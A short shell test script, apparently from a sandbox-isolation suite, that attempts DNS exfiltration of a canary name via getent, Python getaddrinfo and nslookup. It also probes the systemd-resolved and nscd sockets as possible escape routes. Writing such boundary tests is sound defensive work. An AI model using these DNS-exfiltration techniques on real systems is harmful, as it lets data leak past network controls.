#!/bin/sh
# id: NT-10
# title: DNS exfiltration: resolve <data>.attacker name via getaddrinfo, nslookup to resolv.conf servers, systemd-resolved socket
# class: boundary
# expect: query never leaves; host resolver log has no line (host side check: hits.log)
# layer: no network; DNS only by the proxy for allowed names
. "$(dirname "$0")/../lib/atk.sh"
for n in exfil-data.cordon-canary.test; do getent hosts $n; python3 -c "import socket; socket.getaddrinfo('$n',80)" 2>&1 | tail -1; busybox nslookup $n 2>&1 | tail -1; done
[ -S /run/systemd/resolve/io.systemd.Resolve ] && python3 -c "import socket; s=socket.socket(1,1); s.connect('/run/systemd/resolve/io.systemd.Resolve'); print('connected resolved')" 2>/dev/null | grep -q connected && escaped "systemd-resolved varlink reachable"
[ -S /run/nscd/socket ] && python3 -c "import socket; s=socket.socket(1,1); s.connect('/run/nscd/socket'); print('ok')" 2>/dev/null | grep -q ok && escaped "nscd reachable"
blocked
